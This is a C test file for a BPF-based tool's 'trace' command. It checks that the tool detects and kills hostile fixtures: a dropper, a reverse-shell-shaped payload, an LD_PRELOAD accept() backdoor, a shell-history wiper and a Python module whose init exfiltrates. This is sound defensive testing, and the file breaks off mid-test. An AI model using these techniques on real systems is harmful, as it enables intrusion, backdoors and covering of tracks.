/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* `bpf-profiler trace` on the real kernel: real BPF programs, real
 * processes loading real libraries. Needs root. */
#include <arpa/inet.h>
#include <criterion/criterion.h>
#include <jansson.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include "harness.h"
#include "tmpdir.h"

TestSuite(trace, .init = require_root, .timeout = 120);

Test(trace, dropper_window_has_lookback_load_and_follow_in_order)
{
	char out[128], marker[160], port_env[64], marker_env[200];
	int port, lfd = listen_local(&port);
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--",
			 FIXTURE_DIR "/dropper", FIXTURE_DIR "/libevil.so", NULL };
	char *env[] = { port_env, marker_env, NULL };
	json_t *events, *win, *dl, *verdict;
	char cmd[512];

	tmp_output(out, sizeof(out), "dropper");
	snprintf(marker, sizeof(marker), "%s/marker-%d", FIXTURE_DIR, (int)getpid());
	snprintf(port_env, sizeof(port_env), "BPFPROF_CALLBACK_PORT=%d", port);
	snprintf(marker_env, sizeof(marker_env), "BPFPROF_MARKER=%s", marker);

	long newest_before = our_newest_program();

	cr_assert_eq(run(argv, env), 0, "the dropper's own exit status is passed through");
	close(lfd);
	events = read_events(out);

	dl = find_event(events, "dlopen", "bpfprof-dropper");
	cr_assert_not_null(dl, "no dlopen event for the dropped library");
	cr_assert(json_is_true(json_object_get(dl, "ok")));

	win = find_event(events, "window", "bpfprof-dropper");
	cr_assert_not_null(win, "no window for the dropped library");
	assert_part(win, "lookback", "connect:inet", "openat:write_tmp", "recvfrom", "fchmodat:exec");
	/* the marker lives in the build tree, which may itself be under /tmp */
	if (!strncmp(marker, "/tmp/", 5) || !strncmp(marker, "/var/tmp/", 9))
		assert_part(win, "load", "openat:read", "mmap:exec_file", "socket:inet",
			    "connect:inet", "mprotect:exec", "openat:write_tmp");
	else
		assert_part(win, "load", "openat:read", "mmap:exec_file", "socket:inet",
			    "connect:inet", "mprotect:exec", "openat:write");
	assert_part(win, "follow", "openat:read", "unlinkat");
	cr_assert(json_is_false(json_object_get(win, "uncertain")));

	verdict = find_event(events, "verdict", "bpfprof-dropper");
	cr_assert_not_null(verdict);
	cr_assert_not_null(json_object_get(verdict, "level"));

	snprintf(cmd, sizeof(cmd), "python3 %s/validate_jsonl.py %s/schemas/trace-event.schema.json %s",
		 TOOLS_DIR, BPFPROF_SRCDIR, out);
	cr_assert_eq(system(cmd), 0, "JSON lines do not match schemas/trace-event.schema.json");
	/* nothing is left attached once trace has exited */
	cr_assert(no_program_left_since(newest_before), "BPF programs left loaded after trace exited");
	json_decref(events);
	unlink(out);
	unlink(marker);
}

Test(trace, python_ctypes_load_of_libm_is_reported)
{
	char out[128];
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--", "/usr/bin/python3", "-c",
			 "import ctypes; ctypes.CDLL('libm.so.6')", NULL };
	json_t *events, *dl;

	tmp_output(out, sizeof(out), "python");
	cr_assert_eq(run(argv, NULL), 0);
	events = read_events(out);
	dl = find_event(events, "dlopen", "libm.so.6");
	cr_assert_not_null(dl, "no dlopen event for libm.so.6");
	cr_assert(json_is_true(json_object_get(dl, "ok")));
	cr_assert_not_null(find_event(events, "verdict", "libm.so.6"));
	json_decref(events);
	unlink(out);
}

/* The traced set forgets a process when its thread group is gone, not
 * when its main thread exits: the other threads still load code. */
Test(trace, a_load_after_the_main_thread_exited_is_still_traced)
{
	char out[128];
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--",
			 FIXTURE_DIR "/main_exits_first", "libm.so.6", NULL };
	json_t *events;

	tmp_output(out, sizeof(out), "mainexit");
	cr_assert_eq(run(argv, NULL), 0);
	events = read_events(out);
	cr_assert_not_null(find_event(events, "dlopen", "libm.so.6"),
			   "the load of a process whose main thread exited was not traced");
	json_decref(events);
	unlink(out);
}

Test(trace, attaches_to_a_running_process_by_pid)
{
	char out[128], pidstr[32], line[64];
	int pipefd[2];
	pid_t target;
	json_t *events;
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "-p", pidstr, NULL };

	tmp_output(out, sizeof(out), "pid");
	cr_assert_eq(pipe(pipefd), 0);
	target = fork();
	if (target == 0) {
		dup2(pipefd[1], STDOUT_FILENO);
		execl(FIXTURE_DIR "/dlopen_loop", "dlopen_loop", "libm.so.6", "3", NULL);
		_exit(126);
	}
	close(pipefd[1]);
	cr_assert_gt(read(pipefd[0], line, sizeof(line)), 0, "dlopen_loop did not start");
	snprintf(pidstr, sizeof(pidstr), "%d", (int)target);
	/* trace returns when the process exits */
	cr_assert_eq(run(argv, NULL), 0);
	waitpid(target, NULL, 0);
	events = read_events(out);
	cr_assert_not_null(find_event(events, "dlopen", "libm.so.6"), "no dlopen seen with -p");
	cr_assert_not_null(find_event(events, "summary", NULL));
	json_decref(events);
	unlink(out);
}

Test(trace, flood_counts_losses_and_marks_the_window_uncertain)
{
	char out[128];
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--ringbuf-kb", "8", "--wakeup-batch", "64",
			 "--follow", "4", "--", FIXTURE_DIR "/loader", FIXTURE_DIR "/libflood.so", NULL };
	char *env[] = { "BPFPROF_FLOOD=200000", NULL };
	json_t *events, *win, *summary;

	tmp_output(out, sizeof(out), "flood");
	cr_assert_eq(run(argv, env), 0);
	events = read_events(out);
	summary = find_event(events, "summary", NULL);
	cr_assert_not_null(summary);
	cr_assert_gt(json_integer_value(json_object_get(summary, "lost")), 0,
		     "200000 opens through an 8 KiB ring woken every 64 events lost nothing?");
	win = find_event(events, "window", "libflood.so");
	cr_assert_not_null(win);
	cr_assert(json_is_true(json_object_get(win, "uncertain")), "lossy window not uncertain");
	cr_assert(json_is_true(json_object_get(find_event(events, "verdict", "libflood.so"),
					       "uncertain")));
	json_decref(events);
	unlink(out);
}

Test(trace, errors_have_documented_exit_codes)
{
	char *notfound[] = { BPFPROF_BIN, "trace", "--", "/nonexistent/cmd", NULL };
	char *nopid[] = { BPFPROF_BIN, "trace", "-p", "4194000", NULL };
	char *both[] = { BPFPROF_BIN, "trace", NULL };
	pid_t pid;
	int status;

	cr_assert_eq(run(notfound, NULL), 127);
	cr_assert_eq(run(nopid, NULL), 5);
	cr_assert_eq(run(both, NULL), 2);
	{ /* a bad value is named by the option the user typed */
		char line[256] = "";
		FILE *p = popen(BPFPROF_BIN " trace --lookback 999 -- /bin/true 2>&1", "r");

		cr_assert_not_null(p);
		cr_assert_not_null(fgets(line, sizeof(line), p));
		cr_assert_eq(WEXITSTATUS(pclose(p)), 2);
		cr_assert(strstr(line, "invalid value '999' for --lookback"), "%s", line);
	}
	pid = fork();
	if (pid == 0) { /* an unprivileged user */
		if (setgid(65534) || setuid(65534))
			_exit(99);
		execl(BPFPROF_BIN, BPFPROF_BIN, "trace", "--", "/bin/true", NULL);
		_exit(126);
	}
	waitpid(pid, &status, 0);
	cr_assert_eq(WEXITSTATUS(status), 3, "not root must exit 3");
}

Test(trace, sigint_detaches_cleanly_and_prints_a_summary)
{
	char out[128], cmd[256];
	pid_t tr;
	int status;
	json_t *events, *loop;

	long newest_before = our_newest_program();

	tmp_output(out, sizeof(out), "sigint");
	unlink(out); /* the wait below must not see an old run's output */
	tr = fork();
	if (tr == 0) {
		setpgid(0, 0); /* our own group: the test runner must not see the signal */
		execl(BPFPROF_BIN, BPFPROF_BIN, "trace", "--json", "-o", out, "--",
		      FIXTURE_DIR "/dlopen_loop", "libm.so.6", "30", NULL);
		_exit(126);
	}
	/* interrupt once it traces (loading the programs takes a while on a busy machine) */
	snprintf(cmd, sizeof(cmd), "grep -qF '\"type\":\"dlopen\"' %s 2>/dev/null", out);
	for (int i = 0; i < 200 && system(cmd); i++)
		usleep(100 * 1000);
	cr_assert_eq(kill(tr, SIGINT), 0);
	cr_assert_eq(waitpid(tr, &status, 0), tr);
	cr_assert(WIFEXITED(status) && WEXITSTATUS(status) == 0, "status %d", status);
	events = read_events(out);
	cr_assert_not_null(find_event(events, "summary", NULL), "no summary after SIGINT");
	loop = find_event(events, "dlopen", "libm.so.6");
	cr_assert_not_null(loop);
	cr_assert(no_program_left_since(newest_before), "BPF programs left loaded after SIGINT");
	/* detaching leaves the command running; end it ourselves */
	cr_expect_eq(kill((pid_t)json_integer_value(json_object_get(loop, "pid")), SIGTERM), 0,
		     "the traced loop was not running after the detach");
	json_decref(events);
	unlink(out);
}

Test(trace, quarantined_library_is_killed_before_its_constructor_runs)
{
	char out[128], marker[160], marker_env[200];
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--quarantine",
			 FIXTURE_DIR "/libevil.so", "--", FIXTURE_DIR "/loader",
			 FIXTURE_DIR "/libevil.so", NULL };
	char *env[] = { marker_env, NULL };
	json_t *events, *gate, *verdict;

	tmp_output(out, sizeof(out), "quarantine");
	snprintf(marker, sizeof(marker), "%s/quarantine-marker-%d", FIXTURE_DIR, (int)getpid());
	snprintf(marker_env, sizeof(marker_env), "BPFPROF_MARKER=%s", marker);
	unlink(marker);
	cr_assert_eq(run(argv, env), 77, "quarantine must be told apart by exit status 77");
	cr_assert_neq(access(marker, F_OK), 0, "the constructor ran: marker file exists");
	events = read_events(out);
	gate = find_event(events, "gate", "libevil.so");
	cr_assert_not_null(gate);
	cr_assert_str_eq(json_string_value(json_object_get(gate, "action")), "kill");
	verdict = find_event(events, "verdict", "libevil.so");
	cr_assert_str_eq(json_string_value(json_object_get(verdict, "action")), "quarantine");
	json_decref(events);
	unlink(out);
}

/* The gate judges a new object on its load-time code (the process waits
 * for that alone); the rest of the analysis (here: an exported function
 * that connects out and execs a shell, which nothing runs at the load)
 * lands from a worker and the window is judged again: medium now, on all
 * of the object. The thresholds put the two analyses on either side of
 * medium. */
Test(trace, the_rest_of_a_gated_object_s_analysis_judges_its_window_again)
{
	char out[128];
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--gate", "--medium", "0.26",
			 "--", FIXTURE_DIR "/loader", FIXTURE_DIR "/libdormant.so", NULL };
	json_t *events, *gate, *e, *later = NULL;
	size_t i;

	tmp_output(out, sizeof(out), "rest-lands");
	cr_assert_eq(run(argv, NULL), 0);
	events = read_events(out);
	gate = find_event(events, "gate", "libdormant.so");
	cr_assert_not_null(gate, "no gate stop at libdormant.so");
	cr_assert(json_is_true(json_object_get(gate, "static_load_time_only")),
		  "the gate waited for more than the load-time code");
	cr_assert_str_eq(json_string_value(json_object_get(gate, "action")), "resume");
	cr_assert_str_eq(json_string_value(json_object_get(gate, "reason")), "low");
	json_array_foreach(events, i, e) {
		const char *type = json_string_value(json_object_get(e, "type"));
		const char *path = json_string_value(json_object_get(e, "path"));

		if (!strcmp(type, "verdict") && path && strstr(path, "libdormant.so") &&
		    !json_is_true(json_object_get(e, "static_load_time_only")))
			later = e;
	}
	cr_assert_not_null(later, "no verdict on all of the object's code");
	cr_assert_str_eq(json_string_value(json_object_get(later, "level")), "medium");
	cr_assert_gt(json_real_value(json_object_get(json_object_get(later, "components"), "dcam")),
		     json_real_value(json_object_get(json_object_get(gate, "components"), "dcam")));
	json_decref(events);
	unlink(out);
}

/* A library that needs another not loaded yet: the gate stops at each
 * (the dependency judged with the same window), and the program exits
 * right after its dlopen, before its records are read. The window is
 * still the library's, not the dependency's it was last stopped at. */
Test(trace, a_window_is_its_object_s_not_the_last_dependency_gated)
{
	char out[128];
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--gate", "--",
			 FIXTURE_DIR "/loader", FIXTURE_DIR "/dcam/libdcam_crypto.so", NULL };

	for (int round = 0; round < 3; round++) {
		json_t *events, *e;
		size_t i, verdicts = 0;

		tmp_output(out, sizeof(out), "own-object");
		cr_assert_eq(run(argv, NULL), 0);
		events = read_events(out);
		cr_assert_not_null(find_event(events, "gate", "libcrypto.so"),
				   "the dependency was not gated: nothing to tell apart");
		json_array_foreach(events, i, e) {
			const char *type = json_string_value(json_object_get(e, "type"));
			const char *point = json_string_value(json_object_get(e, "point"));
			const char *path = json_string_value(json_object_get(e, "path"));

			if (strcmp(type, "verdict") || !point || strcmp(point, "return"))
				continue;
			verdicts++;
			cr_expect(path && strstr(path, "libdcam_crypto.so"),
				  "round %d: the dlopen's window is judged as %s", round, path);
		}
		cr_expect_eq(verdicts, 1, "one dlopen, one window");
		json_decref(events);
		unlink(out);
	}
}

Test(trace, gate_resumes_an_allowed_load_and_caches_the_verdict)
{
	char out[128];
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--gate", "--",
			 FIXTURE_DIR "/dlopen_loop", FIXTURE_DIR "/libbenign.so", "1", NULL };
	json_t *events, *summary, *e;
	size_t i, gates = 0, loads = 0;

	tmp_output(out, sizeof(out), "gate");
	cr_assert_eq(run(argv, NULL), 0);
	events = read_events(out);
	json_array_foreach(events, i, e) {
		const char *type = json_string_value(json_object_get(e, "type"));

		/* the loop's own start-up objects are gated once each too */
		gates += !strcmp(type, "gate") &&
			 strstr(json_string_value(json_object_get(e, "path")), "libbenign.so");
		loads += !strcmp(type, "dlopen") && json_is_true(json_object_get(e, "ok"));
	}
	cr_assert_geq(loads, 5, "the loop loads the library ten times in a second");
	cr_assert_eq(gates, 1, "only the first load of libbenign.so stops; the others hit the cache");
	summary = find_event(events, "summary", NULL);
	cr_assert_geq(json_integer_value(json_object_get(summary, "gate_cache_hits")), (json_int_t)loads - 1);
	json_decref(events);
	unlink(out);
}

Test(trace, a_failed_load_is_reported_with_ok_false_and_nothing_judged_as_its_object)
{
	char out[128];
	/* a bare name: the loader searches its cache and directories first */
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--", FIXTURE_DIR "/loader",
			 "libbpfprof-no-such-library.so", NULL };
	json_t *events, *dl, *win, *comp;

	tmp_output(out, sizeof(out), "failed");
	cr_assert_eq(run(argv, NULL), 3, "the loader's own status for a failed dlopen");
	events = read_events(out);
	dl = find_event(events, "dlopen", "libbpfprof-no-such-library.so");
	cr_assert_not_null(dl);
	cr_assert(json_is_false(json_object_get(dl, "ok")));
	win = find_event(events, "window", "libbpfprof-no-such-library.so");
	cr_assert_not_null(win);
	cr_assert(json_is_false(json_object_get(win, "ok")));
	comp = json_object_get(find_event(events, "verdict", "libbpfprof-no-such-library.so"),
			       "components");
	cr_assert_not_null(comp);
	/* not /etc/ld.so.cache, which the loader opened to search */
	cr_assert(json_is_null(json_object_get(comp, "source")), "nothing was loaded to judge");
	cr_assert(json_is_null(json_object_get(comp, "dcam")), "the loader's cache was analysed");
	json_decref(events);
	unlink(out);
}

/* Runs a shell command line, returns its stdout (stderr discarded). */
static char *shell_stdout(const char *cmd)
{
	char *out = NULL;
	size_t cap = 0;
	FILE *p = popen(cmd, "r");

	cr_assert_not_null(p);
	if (getdelim(&out, &cap, '\0', p) < 0) {
		free(out);
		out = calloc(1, 1);
	}
	pclose(p);
	return out;
}

Test(trace, json_on_stdout_stays_json_whatever_the_command_prints)
{
	char cmd[512], *out, *line, *save = NULL;
	int n = 0;

	snprintf(cmd, sizeof(cmd), "%s trace --json -- sh -c 'echo this is not json; "
		 "%s/loader %s/libbenign.so; echo neither is this' 2>/dev/null", BPFPROF_BIN,
		 FIXTURE_DIR, FIXTURE_DIR);
	out = shell_stdout(cmd);
	for (line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		json_t *j = json_loads(line, 0, NULL);

		cr_assert_not_null(j, "a line of stdout is not JSON: %s", line);
		/* floats are short: 0.4, not 0.40000000000000002 */
		cr_assert_null(strstr(line, "0000000000"), "long float: %s", line);
		json_decref(j);
		n++;
	}
	cr_assert_gt(n, 0, "no JSON lines at all");
	free(out);
}

Test(trace, no_color_on_a_terminal_when_NO_COLOR_is_set)
{
	char cmd[512], *out;

	/* script(1) gives trace a terminal on stdout */
	snprintf(cmd, sizeof(cmd), "NO_COLOR=1 script -qec '%s trace -- %s/loader %s/libbenign.so' "
		 "/dev/null 2>/dev/null", BPFPROF_BIN, FIXTURE_DIR, FIXTURE_DIR);
	out = shell_stdout(cmd);
	cr_assert(strstr(out, "VERDICT"), "no verdict: %s", out);
	cr_assert_null(strchr(out, '\033'), "colour despite NO_COLOR: %s", out);
	free(out);
	snprintf(cmd, sizeof(cmd), "script -qec '%s trace -- %s/loader %s/libbenign.so' "
		 "/dev/null 2>/dev/null", BPFPROF_BIN, FIXTURE_DIR, FIXTURE_DIR);
	out = shell_stdout(cmd);
	cr_assert_not_null(strchr(out, '\033'), "no colour on a terminal at all: %s", out);
	free(out);
}

/* The reputation reason with code in a verdict, or NULL. */
static json_t *reason(json_t *verdict, const char *code)
{
	json_t *r;
	size_t i;

	json_array_foreach(json_object_get(verdict, "reputation_reasons"), i, r)
		if (!strcmp(json_string_value(json_object_get(r, "code")), code))
			return r;
	return NULL;
}

Test(trace, a_process_that_exits_right_after_its_load_is_judged_from_the_host)
{
	char out[128];
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--",
			 FIXTURE_DIR "/main_exits_first", "libz.so.1", NULL };
	json_t *events, *v;

	if (access("/var/lib/dpkg/info", F_OK))
		cr_skip_test("needs dpkg's database");
	tmp_output(out, sizeof(out), "exited");
	cr_assert_eq(run(argv, NULL), 0);
	events = read_events(out);
	v = find_event(events, "verdict", "libz.so.1");
	cr_assert_not_null(v);
	cr_assert_not_null(reason(v, "package_owned"), "zlib1g's file was not package owned");
	cr_assert_null(reason(v, "vanished"), "a gone process's package file vanished");
	cr_assert_null(reason(v, "not_package_owned"));
	json_decref(events);
	unlink(out);
}

/* Anonymous memory made executable is an object too: its first page
 * reaches userspace with the event, so code whose process has exited is
 * still analysed (what it calls, no "not ELF" finding). */
Test(trace, anonymous_code_is_analysed_after_its_process_exited)
{
	char out[128];
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--",
			 FIXTURE_DIR "/anon_code", NULL };
	json_t *events, *e, *v = NULL, *dcam, *f;
	size_t i;
	int found = 0, rc;

	tmp_output(out, sizeof(out), "anon");
	rc = run(argv, NULL);
	if (rc == 77)
		cr_skip_test("the fixture's code bytes are x86-64");
	cr_assert_eq(rc, 0);
	events = read_events(out);
	json_array_foreach(events, i, e) {
		const char *t = json_string_value(json_object_get(e, "type"));
		const char *p = json_string_value(json_object_get(e, "path"));

		if (t && p && !strcmp(t, "verdict") && strstr(p, "exec_anon"))
			v = e;
	}
	cr_assert_not_null(v, "no verdict on the anonymous code");
	dcam = json_object_get(json_object_get(v, "components"), "dcam");
	cr_assert(json_is_number(dcam), "the anonymous code has no static component");
	json_array_foreach(json_object_get(v, "findings"), i, f) {
		const char *what = json_string_value(json_object_get(f, "what"));

		cr_expect_str_neq(json_string_value(json_object_get(f, "category")), "structure");
		if (what && strstr(what, "syscall 39 (getpid)"))
			found++;
	}
	cr_expect_eq(found, 1, "the raw getpid is not a finding");
	json_decref(events);
	unlink(out);
}

/* Gate events on anonymous code in one gated trace of anon_code MODE. */
static size_t anon_gates(const char *mode, const char *tag, json_t **gate)
{
	char out[128];
	char *argv[] = { BPFPROF_BIN, "trace", "--gate", "--json", "-o", out, "--",
			 FIXTURE_DIR "/anon_code", (char *)mode, NULL };
	json_t *events, *e;
	size_t i, n = 0;
	int rc;

	tmp_output(out, sizeof(out), tag);
	rc = run(argv, NULL);
	if (rc == 77)
		cr_skip_test("the fixture's code bytes are x86-64");
	cr_assert_eq(rc, 0, "anon_code %s: exit %d", mode ? mode : "", rc);
	events = read_events(out);
	cr_assert_not_null(find_event(events, "verdict", "exec_anon"), "no verdict on the code");
	json_array_foreach(events, i, e) {
		const char *t = json_string_value(json_object_get(e, "type"));
		const char *p = json_string_value(json_object_get(e, "path"));

		if (t && p && !strcmp(t, "gate") && strstr(p, "exec_anon")) {
			if (gate && !n)
				*gate = json_incref(e);
			n++;
		}
	}
	json_decref(events);
	unlink(out);
	return n;
}

/* Anonymous code that makes a system call itself is stopped before it
 * runs, like a new file; code that calls no kernel (a JIT's) is judged
 * after the fact and costs no stop. */
Test(trace, anonymous_code_that_calls_the_kernel_is_gated_and_a_jit_s_is_not)
{
	json_t *gate = NULL;

	cr_assert_eq(anon_gates(NULL, "anon-gate", &gate), 1, "one stop at the raw code");
	cr_assert_str_eq(json_string_value(json_object_get(gate, "action")), "resume");
	cr_assert(json_is_number(json_object_get(gate, "risk")), "the gate judged nothing");
	json_decref(gate);
	cr_assert_eq(anon_gates("jit", "anon-jit", NULL), 0, "a JIT's page was stopped");
}

/* Inside dlopen the code a constructor makes executable stops the process
 * again: the library's window is judged a second time, on what its
 * constructor did so far, before that code runs. */
Test(trace, a_constructor_s_raw_code_stops_its_library_again_before_it_runs)
{
	char out[128], cmd[512];
	char *argv[] = { BPFPROF_BIN, "trace", "--gate", "--json", "-o", out, "--",
			 FIXTURE_DIR "/loader", FIXTURE_DIR "/libanoncode.so", NULL };
	json_t *events, *e, *at_file = NULL, *at_code = NULL;
	size_t i;

	tmp_output(out, sizeof(out), "anon-ctor");
	cr_assert_eq(run(argv, NULL), 0);
	events = read_events(out);
	json_array_foreach(events, i, e) {
		const char *t = json_string_value(json_object_get(e, "type"));
		const char *p = json_string_value(json_object_get(e, "path"));
		const char *why = json_string_value(json_object_get(e, "trigger"));

		if (!t || strcmp(t, "gate") || !p || !strstr(p, "libanoncode.so") || !why)
			continue;
		if (!strcmp(why, "file"))
			at_file = e;
		else if (!strcmp(why, "code"))
			at_code = e;
	}
	cr_assert_not_null(at_file, "no stop at the library's mapping");
	cr_assert_not_null(at_code, "no stop at the code its constructor made executable");
	cr_assert_eq(json_integer_value(json_object_get(at_code, "window")),
		     json_integer_value(json_object_get(at_file, "window")),
		     "the constructor's code is judged in another window than its library's");
	cr_assert(json_is_number(json_object_get(at_code, "risk")));
	snprintf(cmd, sizeof(cmd), "python3 %s/validate_jsonl.py %s/schemas/trace-event.schema.json %s",
		 TOOLS_DIR, BPFPROF_SRCDIR, out);
	cr_assert_eq(system(cmd), 0, "gate lines do not match the schema");
	json_decref(events);
	unlink(out);
}

/* Runs cmd under `trace` (it must run: marker written), then under
 * `trace --gate --enforce`: killed at the gate's stop at the mapping of a
 * file whose path contains object (exit 77), marker never written. */
static void runs_unless_killed_at_the_gate(char *const cmd[], char *const env[],
					   const char *marker, const char *object)
{
	char out[128], *argv[24];
	json_t *events, *gate;

	tmp_output(out, sizeof(out), "killed-at-gate");
	trace_argv(argv, sizeof(argv) / sizeof(*argv), out, NULL, cmd);
	unlink(marker);
	run(argv, env);
	cr_assert_eq(access(marker, F_OK), 0, "unenforced, %s did not run", object);
	unlink(marker);
	unlink(out);

	trace_argv(argv, sizeof(argv) / sizeof(*argv), out, (char *[]){ "--gate", "--enforce", NULL },
		   cmd);
	cr_assert_eq(run(argv, env), 77, "a kill at the gate exits 77");
	cr_assert_neq(access(marker, F_OK), 0, "%s ran: its marker exists", object);
	events = read_events(out);
	gate = find_event(events, "gate", object);
	cr_assert_not_null(gate, "no gate stop at the mapping of %s", object);
	cr_assert_str_eq(json_string_value(json_object_get(gate, "action")), "kill");
	cr_assert_str_eq(json_string_value(json_object_get(gate, "trigger")), "file");
	json_decref(events);
	unlink(out);
}

/* An executable that is only a payload (a reverse shell's shape: no
 * interpreter, no libc) is judged at execve on what its start is about to
 * do and killed before its first instruction; unenforced, it runs. */
Test(trace, a_payload_executable_is_killed_at_exec_before_its_first_instruction)
{
	char marker[160];
	char *cmd[] = { FIXTURE_DIR "/payload_elf", marker, NULL };

	if (access(FIXTURE_DIR "/payload_elf", X_OK))
		cr_skip_test("payload_elf is x86-64 code: not built on this machine");
	snprintf(marker, sizeof(marker), "%s/payload-marker-%d", FIXTURE_DIR, (int)getpid());
	runs_unless_killed_at_the_gate(cmd, NULL, marker, "payload_elf");
}

/* A statically linked program loads nothing else (no interpreter, no
 * libc.so, no dlopen): its main, which _start hands to libc, is read at
 * execve, and a reverse shell's shape is killed before main runs;
 * unenforced, it runs. */
Test(trace, a_static_implant_is_killed_at_exec_before_its_main)
{
	char marker[160];
	char *cmd[] = { FIXTURE_DIR "/static_shell", marker, NULL };

	snprintf(marker, sizeof(marker), "%s/static-marker-%d", FIXTURE_DIR, (int)getpid());
	runs_unless_killed_at_the_gate(cmd, NULL, marker, "static_shell");
}

/* A preloaded library whose only code is a hook (accept() handing a
 * magic connection to a shell, Jynx's backdoor) does nothing at load time:
 * the hook is predicted from the call it replaces, so the server is killed
 * at the library's mapping, before its main runs; unenforced, it runs. */
Test(trace, a_preloaded_backdoor_hook_is_killed_before_the_application_runs)
{
	char marker[160];
	char *cmd[] = { "/usr/bin/env", "LD_PRELOAD=" FIXTURE_DIR "/dcam/libdcam_accept_backdoor.so",
			FIXTURE_DIR "/accept_once", marker, NULL };

	snprintf(marker, sizeof(marker), "%s/accept-marker-%d", FIXTURE_DIR, (int)getpid());
	runs_unless_killed_at_the_gate(cmd, NULL, marker, "libdcam_accept_backdoor.so");
}

/* A payload put off to the process's exit (a destructor: the constructor
 * does nothing) runs after its load's window closed; the code the object
 * runs at exit is predicted with its load-time code, so the loader is
 * killed at the library's mapping; unenforced, the destructor runs. */
Test(trace, a_payload_in_a_destructor_is_killed_at_its_library_s_mapping)
{
	char marker[160], marker_env[200];
	char *env[] = { marker_env, NULL };
	char *cmd[] = { FIXTURE_DIR "/loader", FIXTURE_DIR "/libexitpayload.so", NULL };

	snprintf(marker, sizeof(marker), "%s/exit-marker-%d", FIXTURE_DIR, (int)getpid());
	snprintf(marker_env, sizeof(marker_env), "BPFPROF_MARKER=%s", marker);
	runs_unless_killed_at_the_gate(cmd, env, marker, "libexitpayload.so");
}

/* Whether the window's part (load, follow, ...) holds token. */
static bool part_has(json_t *win, const char *part, const char *token)
{
	json_t *t;
	size_t i;

	json_array_foreach(json_object_get(win, part), i, t)
		if (!strcmp(json_string_value(t), token))
			return true;
	return false;
}

/* Records of activity wiped (T1070.003): the kernel's open with O_TRUNC
 * and unlink of a shell history are the log-wipe tokens in the library's
 * window, and the same wipe read from its code is high at the gate, so
 * under enforcement it never runs. The histories are in a HOME of the
 * test's own. */
Test(trace, wiping_shell_histories_is_seen_and_killed_before_it_runs)
{
	char home[128], path[192], out[128], marker[160], marker_env[200], home_env[160];
	char *env[] = { marker_env, home_env, NULL };
	char *cmd[] = { FIXTURE_DIR "/loader", FIXTURE_DIR "/libhistwipe.so", NULL };
	char *argv[] = { BPFPROF_BIN, "trace", "--json", "-o", out, "--", cmd[0], cmd[1], NULL };
	const char *names[] = { ".bash_history", ".zsh_history" };
	json_t *events, *win;
	struct stat st;

	snprintf(home, sizeof(home), "/tmp/bpfprof-histwipe-%d", (int)getpid());
	cr_assert_eq(mkdir(home, 0700), 0);
	for (size_t i = 0; i < 2; i++) {
		FILE *f;

		snprintf(path, sizeof(path), "%s/%s", home, names[i]);
		f = fopen(path, "w");
		cr_assert_not_null(f);
		fputs("ls\n", f);
		fclose(f);
	}
	snprintf(home_env, sizeof(home_env), "HOME=%s", home);
	snprintf(marker, sizeof(marker), "%s/marker", home);
	snprintf(marker_env, sizeof(marker_env), "BPFPROF_MARKER=%s", marker);
	tmp_output(out, sizeof(out), "histwipe");
	cr_assert_eq(run(argv, env), 0);
	snprintf(path, sizeof(path), "%s/.bash_history", home);
	cr_assert(!stat(path, &st) && st.st_size == 0, "unenforced, the history is not emptied");
	events = read_events(out);
	win = find_event(events, "window", "libhistwipe.so");
	cr_assert_not_null(win, "no window for libhistwipe.so");
	cr_expect(part_has(win, "load", "openat:logwipe") || part_has(win, "follow", "openat:logwipe"),
		  "the history emptied is not a log wipe");
	cr_expect(part_has(win, "load", "unlinkat:log") || part_has(win, "follow", "unlinkat:log"),
		  "the history deleted is not a log wipe");
	json_decref(events);
	unlink(out);
	runs_unless_killed_at_the_gate(cmd, env, marker, "libhistwipe.so");
	tmpdir_remove(home);
}

/* A native module does its work in the init its runtime calls right after
 * dlopen (CPython's `import` calls PyInit_NAME), not in a constructor:
 * that init is predicted, so the real interpreter importing a module that
 * exfiltrates is killed at the module's mapping, before `import` calls
 * it; unenforced, it runs. */
Test(trace, a_python_module_whose_init_exfiltrates_is_killed_before_import_calls_it)
{
	char marker[160], marker_env[200];
	char *env[] = { marker_env, "PYTHONPATH=" FIXTURE_DIR "/dcam", NULL };
	char *cmd[] = { "/usr/bin/python3", "-c", "import scnmod", NULL };

	if (access("/usr/bin/python3", X_OK))
		cr_skip_test("python3 is not installed (scripts/deps.sh installs it)");
	snprintf(marker, sizeof(marker), "%s/pymodule-marker-%d", FIXTURE_DIR, (int)getpid());
	snprintf(marker_env, sizeof(marker_env), "BPFPROF_MARKER=%s", marker);
	runs_unless_killed_at_the_gate(cmd, env, marker, "scnmod.so");
}

/* A verdict that takes longer than --gate-timeout-ms does not hold the
 * process longer: the fail policy acts at the deadline (fail-closed: a
 * kill, exit 77; fail-open: it runs on) and the gate line says so. */
Test(trace, the_gate_timeout_applies_the_fail_policy_to_a_slow_verdict)
{
	char out[128];
	char *closed[] = { BPFPROF_BIN, "trace", "--gate", "--gate-timeout-ms", "1", "--fail-closed",
			   "--json", "-o", out, "--", FIXTURE_DIR "/loader",
			   FIXTURE_DIR "/libbenign.so", NULL };
	char *open_[] = { BPFPROF_BIN, "trace", "--gate", "--gate-timeout-ms", "1", "--json", "-o",
			  out, "--", FIXTURE_DIR "/loader", FIXTURE_DIR "/libbenign.so", NULL };
	json_t *events, *e;
	size_t i, late = 0, killed = 0;

	/* the first judgments of a run (the program, libc) take milliseconds */
	tmp_output(out, sizeof(out), "gate-timeout");
	cr_assert_eq(run(closed, NULL), 77, "fail-closed past the timeout must kill");
	events = read_events(out);
